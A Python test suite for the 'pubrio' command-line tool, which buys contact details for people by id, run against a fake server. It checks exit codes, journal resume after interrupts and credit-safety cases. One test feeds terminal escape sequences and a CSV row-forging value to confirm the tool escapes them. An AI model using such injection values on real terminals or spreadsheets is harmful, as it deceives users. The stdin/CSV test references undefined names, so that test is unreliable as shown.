"""The real `pubrio` binary against the standalone fake server: every option
and exit code, a journal resume after Ctrl-C and after a hard kill."""
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest
import uuid

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "fake_server"))
from fake_server import QUERY, SUBMIT, FakeServer  # noqa: E402

CLI = os.environ.get("PUBRIO_CLI", "pubrio")
if os.sep in CLI:  # the tests run the CLI from their temporary folder
    CLI = os.path.abspath(CLI)
if os.sep in os.environ.get("PUBRIO_FAKE_SERVER", ""):
    os.environ["PUBRIO_FAKE_SERVER"] = os.path.abspath(
        os.environ["PUBRIO_FAKE_SERVER"])


def ids(n, seed=0):
    return [str(uuid.UUID(int=(seed << 64) + i + 1, version=4)) for i in range(n)]


class CliTest(unittest.TestCase):
    server_args = ("--estimated-time", "0")

    def setUp(self):
        self.server = FakeServer(*self.server_args)
        self.tmp = tempfile.TemporaryDirectory()
        # An early stop writes its ids file in the current directory.
        self.cwd = os.getcwd()
        os.chdir(self.tmp.name)

    def tearDown(self):
        os.chdir(self.cwd)
        self.server.stop()
        self.tmp.cleanup()

    def named_batches(self, err):
        """The batch ids an early stop named: its ids file, read."""
        m = re.search(r"the ids are in (\S+); collect them all with:\n"
                      r"  pubrio query --wait (?:--format csv )?--input (\S+)\n",
                      err)
        if not m:
            return []
        self.assertEqual(m.group(1), m.group(2))
        self.assertEqual(os.stat(m.group(1)).st_mode & 0o777, 0o600)
        with open(m.group(1)) as f:
            return [line.split("#")[0].strip() for line in f
                    if line.split("#")[0].strip()]

    def path(self, name):
        return os.path.join(self.tmp.name, name)

    def write(self, name, lines):
        with open(self.path(name), "w") as f:
            f.write("\n".join(lines) + "\n")
        return self.path(name)

    def run_cli(self, *args, stdin=None, key="test-key", timeout=120):
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY=key)
        return subprocess.run([CLI, *args], input=stdin, capture_output=True,
                              text=True, env=env, timeout=timeout)

    def people(self, stdout):
        return [json.loads(line) for line in stdout.splitlines() if line]


class Basics(CliTest):
    def test_help_and_version(self):
        r = self.run_cli("--help")
        self.assertEqual(r.returncode, 0)
        for word in ("--types", "--journal", "--rate", "--format", "exit codes"):
            self.assertIn(word, r.stdout)
        r = self.run_cli("--version")
        self.assertEqual(r.returncode, 0)
        self.assertRegex(r.stdout, r"^pubrio \d+\.\d+\.\d+")

    def test_usage_errors_exit_2_and_send_nothing(self):
        cases = [
            ("redeem", ids(1)[0]),                       # no --types
            ("redeem", "--types", "fax", ids(1)[0]),     # bad type
            ("redeem", "--types", "phone"),              # no ids
            ("redeem", "--types", "phone", "--batch-size", "0", ids(1)[0]),
            ("redeem", "--types", "phone", "--format", "csv", ids(1)[0]),
            ("redeem", "--types", "phone", "--bogus"),
            ("frobnicate",),
            ("query",),
            ("query", "not-a-uuid"),
        ]
        for args in cases:
            with self.subTest(args=args):
                r = self.run_cli(*args)
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertTrue(r.stderr.startswith("pubrio:"), r.stderr)
        self.assertEqual(self.server.requests(), 0)

    def test_no_api_key_is_usage_error(self):
        r = self.run_cli("redeem", "--types", "phone", ids(1)[0], key="")
        self.assertEqual(r.returncode, 2)
        self.assertIn("API key", r.stderr)
        self.assertEqual(self.server.requests(), 0)

    def test_bad_lines_named_and_nothing_sent(self):
        good = ids(3)
        f = self.write("in.txt", [good[0], "nope", good[1], "",
                                  "# fine", good[2] + "x", "  " + good[2]])
        r = self.run_cli("redeem", "--types", "phone", "--input", f)
        self.assertEqual(r.returncode, 2)
        self.assertIn("line 2:", r.stderr)
        self.assertIn("line 6:", r.stderr)
        self.assertNotIn("line 1:", r.stderr)
        self.assertIn("2 invalid ids", r.stderr)
        self.assertEqual(self.server.requests(), 0)

    def test_submit_only_prints_one_line_per_batch(self):
        people = ids(250)
        f = self.write("in.txt", people)
        r = self.run_cli("redeem", "--types", "email-work,phone",
                         "--profile-id", "77", "--input", f)
        self.assertEqual(r.returncode, 0, r.stderr)
        # Batches go out concurrently: each is printed once, as accepted.
        batches = sorted(self.people(r.stdout), key=lambda b: b["batch"])
        self.assertEqual([b["batch"] for b in batches], [1, 2, 3])
        self.assertEqual([b["people"] for b in batches], [100, 100, 50])
        for b in batches:
            self.assertEqual(set(b), {"batch", "people", "redeem_query_id",
                                      "is_completed", "estimated_time_ms"})
        stats = self.server.stats()
        # The account's quotas and prices are read first (free), then 3
        # submits and no poll.
        self.assertEqual(stats["requests"], {SUBMIT: 3, "/profile": 1,
                                             "/profile/usage": 1})
        body = json.loads(stats["last_submit_body"])
        self.assertEqual(body["profile_id"], 77)
        self.assertEqual(body["people_contact_types"], ["email-work", "phone"])

    def test_file_with_duplicates_and_comments_waits_for_everyone(self):
        people = ids(2500)
        lines = ["# header comment"]
        for i, p in enumerate(people):
            lines.append(p.upper() if i % 7 == 0 else p)
            if i % 10 == 0:
                lines.append("   " + p + "   # again")
            if i % 50 == 0:
                lines.append("")
        f = self.write("in.txt", lines)
        r = self.run_cli("redeem", "--types", "email-personal", "--wait",
                         "--input", f)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("250 duplicate ids dropped", r.stderr)
        out = self.people(r.stdout)
        self.assertEqual(sorted(p["people_search_id"] for p in out), sorted(people))
        for p in out:
            self.assertEqual(p["phones"], [])
            for e in p["emails"]:
                self.assertEqual(e["type"], "email-personal")
        stats = self.server.stats()
        self.assertEqual(stats["requests"][SUBMIT], 25)
        self.assertEqual(stats["max_submits_per_person"], 1)

    def test_stdin_and_csv(self):
        people = ids(5)
        r = self.run_cli("redeem", "--types", "email-work,phone", "--wait",
                         "--format", "csv", "-", stdin="\n".join(people))
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = r.stdout.splitlines()
        # One row a person, in input order, the contacts in columns.
        self.assertEqual(rows[0], "people_search_id," + ",".join(APPENDED))
        self.assertEqual([row.split(",")[0] for row in rows[1:]], people)
        for row in rows[1:]:
            pid = row.split(",")[0]
            self.assertEqual(row.split(","),
                             [pid] + fake_contacts(pid, "email-work,phone"))

    def test_query_subcommand(self):
        r = self.run_cli("redeem", "--types", "phone", *ids(2))
        qid = self.people(r.stdout)[0]["redeem_query_id"]
        r = self.run_cli("query", qid)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(self.people(r.stdout)), 2)
        r = self.run_cli("query", "00000000-0000-4000-8000-0000000000ff")
        self.assertEqual(r.returncode, 3)
        self.assertIn("code 40004", r.stderr)
        self.assertIn("request id", r.stderr)

    def test_quiet_and_verbose(self):
        people = ids(3)
        r = self.run_cli("redeem", "--types", "phone", "-q", *people, people[0])
        self.assertEqual(r.returncode, 0)
        self.assertEqual(r.stderr, "")
        r = self.run_cli("redeem", "--types", "phone", "-v", "--wait", *people)
        self.assertEqual(r.returncode, 0)
        self.assertIn("batches 1/1", r.stderr)
        self.assertIn("POST ", r.stderr)
        self.assertNotIn("test-key", r.stderr)


class ExitCodes(CliTest):
    def expect(self, status, code, extra=(), **script):
        self.server.script(SUBMIT, status, script.pop("body", "{}"), **script)
        r = self.run_cli("redeem", "--types", "phone", *extra, ids(1)[0])
        self.assertEqual(r.returncode, code, r.stderr)
        self.assertEqual(len(r.stderr.strip().splitlines()), 1, r.stderr)
        return r

    def test_rejections_exit_3(self):
        r = self.expect(400, 3, body='{"code":40001,"message":"nope","details":{}}')
        self.assertIn("code 40001", r.stderr)
        self.assertIn("nope", r.stderr)
        self.expect(402, 3, body='{"error":"Insufficient credits"}')
        self.expect(403, 3)
        r = self.run_cli("redeem", "--types", "phone", ids(1)[0], key="wrong")
        self.assertEqual(r.returncode, 3)
        self.assertIn("HTTP 401", r.stderr)

    def test_429_is_a_wait_not_the_end(self):
        # A 429 proves nothing was processed: the run waits and submits the
        # batch again, however few retries a single call gets.
        self.server.script(SUBMIT, 429,
                           '{"error":"Request rate limit exceeded."}', times=2)
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--retries", "0",
                         "--wait", *ids(3))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(self.people(r.stdout)), 3)
        self.assertEqual(self.server.requests(SUBMIT), 3)
        # Refused submits were not processed: nobody was charged twice.
        self.assertEqual(self.server.stats()["max_submits_per_person"], 1)
        self.assertGreater(time.monotonic() - start, 1.0)  # it waited

    def test_server_failure_exit_5_and_single_submit(self):
        self.expect(500, 5, body='{"error":"boom"}', times=5)
        self.assertEqual(self.server.requests(SUBMIT), 1)
        self.expect(502, 5, body="<html>bad gateway</html>",
                    content_type="text/html")

    def test_timeout_exit_5(self):
        self.server.script(SUBMIT, 200, "{}", delay_ms=5000)
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--timeout", "1",
                         "--retries", "0", ids(1)[0])
        self.assertEqual(r.returncode, 5, r.stderr)
        self.assertIn("timed out", r.stderr)
        self.assertLess(time.monotonic() - start, 4.5)

    def test_transport_failure_exit_5(self):
        # A port held bound but not listening: connections are refused.
        holder = socket.socket()
        holder.bind(("127.0.0.1", 0))
        url = "http://127.0.0.1:%d" % holder.getsockname()[1]
        self.addCleanup(holder.close)
        env = dict(os.environ, PUBRIO_API_KEY="test-key")
        r = subprocess.run([CLI, "redeem", "--types", "phone", "--retries", "0",
                            "--base-url", url, ids(1)[0]],
                           capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 5)
        self.assertIn("could not connect", r.stderr)


class Deadline(CliTest):
    server_args = ("--estimated-time", "0", "--complete-after-polls", "1000000")

    def test_wait_deadline_exit_6(self):
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--max-wait",
                         "2", *ids(3))
        self.assertEqual(r.returncode, 6, r.stderr)
        self.assertLess(time.monotonic() - start, 10)
        self.assertIn("is not collected; collect it with: pubrio query",
                      r.stderr)
        # Polls were spaced by at least a second.
        self.assertLessEqual(self.server.requests(QUERY), 3)

    def test_query_wait_deadline_exit_6(self):
        r = self.run_cli("redeem", "--types", "phone", ids(1)[0])
        qid = self.people(r.stdout)[0]["redeem_query_id"]
        r = self.run_cli("query", qid, "--wait", "--max-wait", "1")
        self.assertEqual(r.returncode, 6, r.stderr)
        self.assertEqual(json.loads(r.stdout)["is_completed"], False)


def store_rows(journal, sql):
    """Rows of the journal (an SQLite database), read with Python's sqlite3."""
    import sqlite3
    db = sqlite3.connect("file:%s?mode=ro" % journal, uri=True)
    try:
        return db.execute(sql).fetchall()
    finally:
        db.close()


def store_people(journal, states):
    """The people of the journal's batches in @states, as canonical ids."""
    rows = store_rows(journal, "SELECT p.person FROM batch_people p JOIN "
                      "batches b ON b.number = p.batch WHERE b.state IN (%s)"
                      % ",".join("'%s'" % s for s in states))
    return {str(uuid.UUID(bytes=r[0])) for r in rows}


class Journal(CliTest):
    def start(self, people_file, journal, rate):
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        return subprocess.Popen(
            [CLI, "redeem", "--types", "email-work", "--wait", "--batch-size",
             "10", "--rate", str(rate), "--journal", journal, "--input",
             people_file], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True, env=env)

    def interrupt_midway(self, sig):
        people = ids(300)
        f = self.write("in.txt", people)
        journal = self.path("run.journal")
        # 20 requests a minute: a burst of 20, then a minute's wait for the
        # rest of the 60 requests; the signal lands in that wait or earlier.
        proc = self.start(f, journal, 20)
        time.sleep(2.0)
        proc.send_signal(sig)
        first_out, first_err = proc.communicate(timeout=30)
        first = {p["people_search_id"] for p in self.people(first_out)}
        accepted = store_rows(journal, "SELECT number FROM batches WHERE "
                              "state IN ('accepted', 'collected')")
        self.assertTrue(0 < len(accepted) < 30, first_err)
        # What was handed out was stored first.
        self.assertLessEqual(first, store_people(journal, ["collected"]))
        r = self.run_cli("redeem", "--types", "email-work", "--wait",
                         "--batch-size", "10", "--journal", journal,
                         "--input", f)
        self.assertIn(r.returncode, (0, 9), r.stderr)
        second = {p["people_search_id"] for p in self.people(r.stdout)}
        stats = self.server.stats()
        self.assertEqual(stats["max_submits_per_person"], 1)
        return proc.returncode, first, second, people, r

    def test_ctrl_c_then_resume(self):
        code, first, second, people, r = self.interrupt_midway(signal.SIGINT)
        self.assertEqual(code, 130)
        # A drain: nothing was left uncertain, and the resumed run hands out
        # everyone (what the first run bought from the journal).
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(second, set(people))
        self.assertTrue(first <= second)

    def test_hard_kill_then_resume(self):
        code, first, second, people, r = self.interrupt_midway(signal.SIGKILL)
        self.assertEqual(code, -signal.SIGKILL)
        # Anyone whose submit was in flight is left alone, never sent twice.
        missing = set(people) - second
        self.assertLessEqual(len(missing), 10)  # at most the batch in flight
        if missing:
            self.assertIn("may have charged", r.stderr)
            self.assertEqual(r.returncode, 9, r.stderr)

    def test_rerun_of_a_finished_run_asks_nothing(self):
        journal = self.path("run.journal")
        people = ids(250)
        f = self.write("in.txt", people)
        args = ("redeem", "--types", "email-work,phone", "--wait",
                "--journal", journal, "--input", f)
        first = self.run_cli(*args)
        self.assertEqual(first.returncode, 0, first.stderr)
        before = self.server.requests()
        second = self.run_cli(*args)
        self.assertEqual(second.returncode, 0, second.stderr)
        self.assertEqual(self.server.requests(), before)  # not one request
        self.assertEqual(sorted(first.stdout.splitlines()),
                         sorted(second.stdout.splitlines()))
        self.assertIn("250 people already bought", second.stderr)
        self.assertRegex(second.stderr, r"0 credits charged by this run "
                                        r"\(\d+ by earlier runs")

    def test_overlap_buys_only_the_new_half(self):
        journal = self.path("run.journal")
        people = ids(400)
        old, new = people[:200], people[200:]
        self.assertEqual(self.run_cli(
            "redeem", "--types", "phone", "--wait", "--journal", journal,
            "--input", self.write("a.txt", people[:300])).returncode, 0)
        submitted = self.server.stats()["people_submitted"]
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--journal",
                         journal, "--input", self.write("b.txt", old[100:] +
                                                        new))
        self.assertEqual(r.returncode, 0, r.stderr)
        # Only the 100 people the first run did not have were submitted, and
        # the output is exactly this run's input.
        self.assertEqual(self.server.stats()["people_submitted"],
                         submitted + 100)
        out = {p["people_search_id"] for p in self.people(r.stdout)}
        self.assertEqual(out, set(old[100:] + new))
        self.assertEqual(self.server.stats()["max_submits_per_person"], 1)

    def test_missing_types_only_are_bought(self):
        journal = self.path("run.journal")
        people = ids(20)
        self.assertEqual(self.run_cli("redeem", "--types", "phone", "--wait",
                                      "--journal", journal,
                                      *people).returncode, 0)
        r = self.run_cli("redeem", "--types", "phone,email-work", "--wait",
                         "--journal", journal, *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        body = json.loads(self.server.stats()["last_submit_body"])
        self.assertEqual(body["people_contact_types"], ["email-work"])
        out = self.people(r.stdout)
        self.assertEqual(len(out), 20)
        self.assertTrue(any(p["phones"] for p in out))   # from the journal
        self.assertTrue(any(p["emails"] for p in out))   # bought now
        # --refresh buys both again.
        r = self.run_cli("redeem", "--types", "phone,email-work", "--wait",
                         "--refresh", "--journal", journal, *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        body = json.loads(self.server.stats()["last_submit_body"])
        self.assertEqual(body["people_contact_types"], ["email-work", "phone"])

    def test_uncertain_people_are_not_resent(self):
        # A submit without a conclusive answer (here a 408): the API may have
        # charged, so those people stay unsent unless asked.
        journal = self.path("run.journal")
        people = ids(4)
        self.server.script(SUBMIT, 408, '{"error":"timeout"}')
        r = self.run_cli("redeem", "--types", "phone", "--batch-size", "2",
                         "--parallel", "1", "--journal", journal, *people[:2])
        self.assertEqual(r.returncode, 5, r.stderr)
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal,
                         *people)
        self.assertEqual(r.returncode, 9, r.stderr)
        self.assertIn("2 people were being submitted", r.stderr)
        self.assertIn("2 people are uncertain", r.stderr)
        sent = json.loads(self.server.stats()["last_submit_body"])["peoples"]
        self.assertEqual(sorted(sent), sorted(people[2:]))
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal,
                         "--resubmit-uncertain", *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        sent = json.loads(self.server.stats()["last_submit_body"])["peoples"]
        self.assertEqual(sorted(sent), sorted(people[:2]))

    def test_export_and_status_need_no_key_and_no_request(self):
        journal = self.path("run.journal")
        people = ids(30)
        r = self.run_cli("redeem", "--types", "email-work,phone", "--wait",
                         "--journal", journal, *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        bought = sorted(r.stdout.splitlines())
        before = self.server.requests()
        env = dict(os.environ)
        env.pop("PUBRIO_API_KEY", None)
        env["PUBRIO_BASE_URL"] = "http://127.0.0.1:9"  # nothing may be asked
        out = subprocess.run([CLI, "export", "--journal", journal],
                             capture_output=True, text=True, env=env)
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual(sorted(out.stdout.splitlines()), bought)
        csv = subprocess.run([CLI, "export", "--journal", journal, "--format",
                              "csv"], capture_output=True, text=True, env=env)
        self.assertEqual(csv.returncode, 0, csv.stderr)
        self.assertEqual(csv.stdout.splitlines()[0],
                         "people_search_id,type,value,status")
        st = subprocess.run([CLI, "status", "--journal", journal],
                            capture_output=True, text=True, env=env)
        self.assertEqual(st.returncode, 0, st.stderr)
        self.assertIn("people bought: 30", st.stdout)
        self.assertRegex(st.stdout, r"\n1 +\S+ \S+ +email-work,phone +1 +0 +0 +0 ")
        self.assertEqual(self.server.requests(), before)
        missing = subprocess.run([CLI, "status", "--journal",
                                  self.path("nope.journal")],
                                 capture_output=True, text=True, env=env)
        self.assertEqual(missing.returncode, 2)
        self.assertFalse(os.path.exists(self.path("nope.journal")))


def wait_for(predicate, timeout=10.0):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.05)
    return False


class CreditSafety(CliTest):
    """The issue's hostile cases, one test each, with the real binary."""

    def popen(self, *args, key="test-key", **kw):
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY=key)
        return subprocess.Popen([CLI, *args], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=env,
                                **kw)

    def test_second_run_on_a_journal_is_refused(self):
        journal = self.path("j.jsonl")
        people = ids(10)
        # Hold the first run in its submit for 3 s.
        self.server.script(SUBMIT, 500, "{}", delay_ms=3000)
        first = self.popen("redeem", "--types", "phone", "--journal", journal,
                           *people)
        self.assertTrue(wait_for(lambda: self.server.requests(SUBMIT) == 1))
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal,
                         *people)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertLess(time.monotonic() - start, 2)
        self.assertIn("in use by another run", r.stderr)
        first.communicate(timeout=30)
        self.assertEqual(self.server.requests(SUBMIT), 1)

    def test_408_is_uncertain_never_resent(self):
        journal = self.path("j.journal")
        people = ids(3)
        self.server.script(SUBMIT, 408, '{"error":"timeout"}')
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal,
                         *people)
        self.assertEqual(r.returncode, 5, r.stderr)
        self.assertIn("may have charged", r.stderr)
        for p in people:  # each uncertain person is named
            self.assertIn(p, r.stderr)
        self.assertEqual(store_rows(journal, "SELECT state FROM batches"),
                         [("intent",)])
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal,
                         *people)
        self.assertIn("3 people were being submitted", r.stderr)
        self.assertEqual(self.server.requests(SUBMIT), 1)
        # A provable refusal is journaled as such and resent next time.
        journal2 = self.path("j2.journal")
        self.server.script(SUBMIT, 422, '{"error":"unprocessable"}')
        self.run_cli("redeem", "--types", "phone", "--journal", journal2,
                     *people)
        r = self.run_cli("redeem", "--types", "phone", "--journal", journal2,
                         *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.server.requests(SUBMIT), 3)
        sent = json.loads(self.server.stats()["last_submit_body"])["peoples"]
        self.assertEqual(sorted(sent), sorted(people))

    def test_ctrl_c_without_journal_names_every_paid_batch(self):
        server = FakeServer("--estimated-time", "0",
                            "--complete-after-polls", "1000000")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        proc = subprocess.Popen(
            [CLI, "redeem", "--types", "phone", "--wait", "--batch-size", "2",
             *ids(6)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True, env=env)
        self.assertTrue(wait_for(lambda: server.requests(SUBMIT) == 3))
        time.sleep(0.3)
        start = time.monotonic()
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=10)
        self.assertLess(time.monotonic() - start, 1.0)
        self.assertEqual(proc.returncode, 130, err)
        for n in (1, 2, 3):
            qid = "00000000-0000-4000-8000-%012x" % n
            self.assertIn("pubrio query %s --wait" % qid, err)

    def test_journal_that_cannot_be_written_sends_nothing(self):
        import resource

        def small_files():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (150, 150))

        journal = self.path("j.journal")
        proc = self.popen("redeem", "--types", "phone", "--wait", "--journal",
                          journal, ids(1)[0], preexec_fn=small_files)
        _, err = proc.communicate(timeout=30)
        self.assertEqual(proc.returncode, 2, err)
        self.assertIn("journal", err)
        self.assertEqual(self.server.requests(), 0)

    def test_first_signal_drains_second_cuts(self):
        # A hung submit: the first SIGTERM lets it finish (nothing new
        # starts), the second cuts it and names its people as uncertain.
        self.server.script(SUBMIT, 200, "{}", delay_ms=30000)
        proc = self.popen("redeem", "--types", "phone", ids(1)[0])
        self.assertTrue(wait_for(lambda: self.server.requests(SUBMIT) == 1))
        proc.send_signal(signal.SIGTERM)
        time.sleep(1.0)
        self.assertIsNone(proc.poll())  # still waiting for the answer
        start = time.monotonic()
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=10)
        self.assertLess(time.monotonic() - start, 1.0)
        self.assertEqual(proc.returncode, 130, err)
        self.assertIn("Ctrl-C again cuts them", err)
        self.assertIn("may have charged for its 1 person", err)
        self.assertIn(ids(1)[0], err)

    def test_drain_keeps_the_answer_of_a_slow_submit(self):
        # Ctrl-C while a submit is in flight: its answer still comes, so the
        # paid batch is named, not lost.
        server = FakeServer("--estimated-time", "0", "--latency-ms", "1500",
                            "--complete-after-polls", "1000000")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
                                 *ids(2)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=env)
        self.assertTrue(wait_for(lambda: server.requests(SUBMIT) == 1))
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=10)
        self.assertEqual(proc.returncode, 130, err)
        self.assertIn("pubrio query 00000000-0000-4000-8000-000000000001 "
                      "--wait", err)
        self.assertNotIn("may have charged", err)

    def test_max_wait_bounds_a_hung_server(self):
        self.server.script(QUERY, 200, "{}", delay_ms=30000, times=20)
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--max-wait",
                         "2", ids(1)[0])
        self.assertEqual(r.returncode, 6, r.stderr)
        self.assertLess(time.monotonic() - start, 3.5)
        self.assertIn("pubrio query 00000000-0000-4000-8000-000000000001",
                      r.stderr)
        start = time.monotonic()
        r = self.run_cli("query", "00000000-0000-4000-8000-000000000001",
                         "--wait", "--max-wait", "2")
        self.assertEqual(r.returncode, 6, r.stderr)
        self.assertLess(time.monotonic() - start, 3.5)

    def test_control_characters_are_escaped(self):
        self.server.script(SUBMIT, 400, json.dumps(
            {"code": 1, "message": "\x1b[2K\rall good\x07\u009b"}))
        r = self.run_cli("redeem", "--types", "phone", ids(1)[0])
        self.assertEqual(r.returncode, 3)
        for ch in ("\x1b", "\r", "\x07", "\u009b"):
            self.assertNotIn(ch, r.stderr)
        self.assertIn("\\u001b[2K\\u000dall good", r.stderr)
        # A bad input line is echoed escaped too.
        r = self.run_cli("redeem", "--types", "phone", "-",
                         stdin="\x1b]0;pwned\x07\n")
        self.assertEqual(r.returncode, 2)
        self.assertNotIn("\x1b", r.stderr)
        self.assertIn("\\x1b]0;pwned\\x07", r.stderr)
        # Contact values in CSV and JSON.
        person = ids(1)[0]
        answer = {"data": {"query": {
            "redeem_query_id": "",
            "is_completed": True}, "peoples": [{
                "people_search_id": person,
                "emails": [{"value": "a\x1b[31mb\r\nforged,row\u009b\x7f",
                            "type": "email-work", "status": None}]}]}}
        for batch, fmt in ((1, "csv"), (2, "json")):
            answer["data"]["query"]["redeem_query_id"] = (
                "00000000-0000-4000-8000-%012x" % batch)
            self.server.script(QUERY, 200, json.dumps(answer))
            r = self.run_cli("redeem", "--types", "email-work", "--wait",
                             "--format", fmt, person)
            self.assertEqual(r.returncode, 0, r.stderr)
            for ch in ("\x1b", "\r", "\u009b", "\x7f"):
                self.assertNotIn(ch, r.stdout)
            lines = r.stdout.splitlines()
            self.assertEqual(len(lines), 2 if fmt == "csv" else 1, r.stdout)
            if fmt == "json":
                value = json.loads(lines[0])["emails"][0]["value"]
                self.assertEqual(value, "a\x1b[31mb\r\nforged,row\u009b\x7f")

    def test_people_outside_the_batch_are_not_printed(self):
        people = ids(2)
        stranger = ids(1, seed=9)[0]
        answer = {"data": {"query": {
            "redeem_query_id": "00000000-0000-4000-8000-000000000001",
            "is_completed": True}, "peoples": [
                {"people_search_id": p, "emails": [], "phones": []}
                for p in people + [stranger]]}}
        self.server.script(QUERY, 200, json.dumps(answer))
        r = self.run_cli("redeem", "--types", "phone", "--wait", *people)
        # An answer holding another batch's people breaks the contract:
        # nobody of it is printed, the paid batch is named, exit 5.
        self.assertEqual(r.returncode, 5, r.stderr)
        self.assertEqual(self.people(r.stdout), [])
        self.assertIn("the answer named 1 people the batch does not hold",
                      r.stderr)
        self.assertIn("pubrio query 00000000-0000-4000-8000-000000000001",
                      r.stderr)

    def test_foreign_or_broken_journals_are_refused(self):
        import sqlite3
        people = ids(2)

        def refused(path, words):
            with open(path, "rb") as f:
                before = f.read()
            mode = os.stat(path).st_mode
            r = self.run_cli("redeem", "--types", "phone", "--journal", path,
                             *people)
            self.assertEqual(r.returncode, 2, r.stderr)
            self.assertIn(words, r.stderr)
            with open(path, "rb") as f:  # left untouched, byte for byte
                self.assertEqual(f.read(), before)
            self.assertEqual(os.stat(path).st_mode, mode)  # and its mode
            self.assertFalse(os.path.exists(path + "-wal"))

        notes = self.path("notes.sh")
        with open(notes, "w") as f:
            f.write("my precious notes")  # one line, no final newline
        os.chmod(notes, 0o755)  # a mistyped --journal keeps its exec bit
        refused(notes, "not a libpubrio store")
        old = self.write("old.jsonl", [
            '{"journal":"pubrio","version":1,"types":["phone"]}',
            json.dumps({"intent": 1, "people": people})])
        refused(old, "JSON-lines journal")
        other = self.path("other.db")
        db = sqlite3.connect(other)
        db.execute("CREATE TABLE notes(text)")
        db.commit()
        db.close()
        refused(other, "another program")
        # A real journal cut short (a copy that lost its tail).
        good = self.path("good.journal")
        self.assertEqual(self.run_cli("redeem", "--types", "phone", "--journal",
                                      good, people[0]).returncode, 0)
        with open(good, "rb") as f:
            head = f.read(100)
        cut = self.path("cut.journal")
        with open(cut, "wb") as f:
            f.write(head)
        r = self.run_cli("redeem", "--types", "phone", "--journal", cut,
                         *people)
        self.assertEqual(r.returncode, 2, r.stderr)
        for target in ("/dev/zero", self.tmp.name):
            r = self.run_cli("redeem", "--types", "phone", "--journal",
                             target, *people)
            self.assertEqual(r.returncode, 2)
            self.assertIn("pubrio: ", r.stderr)
        # Created 0600; a symbolic link is not followed.
        self.assertEqual(os.stat(good).st_mode & 0o777, 0o600)
        link = self.path("link.journal")
        os.symlink(good, link)
        r = self.run_cli("redeem", "--types", "phone", "--journal", link,
                         *people)
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("symbolic link", r.stderr)
        # A dry run reads a journal and never creates one.
        r = self.run_cli("redeem", "--types", "phone", "--dry-run",
                         "--journal", self.path("new.journal"), *people)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertFalse(os.path.exists(self.path("new.journal")))
        r = self.run_cli("redeem", "--types", "phone", "--dry-run",
                         "--journal", good, *people)
        self.assertIn("already submitted:  1", r.stdout)  # not collected
        self.assertEqual(self.server.requests(SUBMIT), 1)

    def test_a_closed_or_full_stdout_is_a_stop(self):
        # `| head`: the reader goes away after one line. The run stops as on
        # Ctrl-C (exit 8, not SIGPIPE's 141), saying so, and names every
        # batch whose people may not have reached the reader: what a reader
        # read before it left is unknown, so every batch of the run is named
        # (in one file), and one command collects them all again.
        server = FakeServer("--estimated-time", "0", "--latency-ms", "30",
                            "--complete-after-polls", "2")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        people = ids(200)
        proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
                                 "--batch-size", "10", "--rate", "1000",
                                 *people],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env=env)
        first = json.loads(proc.stdout.readline())["people_search_id"]
        proc.stdout.close()
        err = proc.stderr.read().decode()
        proc.stderr.close()
        proc.wait(timeout=60)
        self.assertEqual(proc.returncode, 8, err)
        self.assertIn("the output could not be written (Broken pipe)", err)
        named = self.named_batches(err)
        self.assertEqual(len(named), len(set(named)))
        self.assertEqual(len(named), server.stats()["requests"][SUBMIT], err)
        r = subprocess.run([CLI, "query", "--wait", "--input",
                            re.search(r"--input (\S+)", err).group(1)],
                           capture_output=True, text=True, env=env, timeout=60)
        self.assertEqual(r.returncode, 0, r.stderr)
        again = {p["people_search_id"] for p in self.people(r.stdout)}
        self.assertEqual(len(again), server.stats()["people_submitted"])
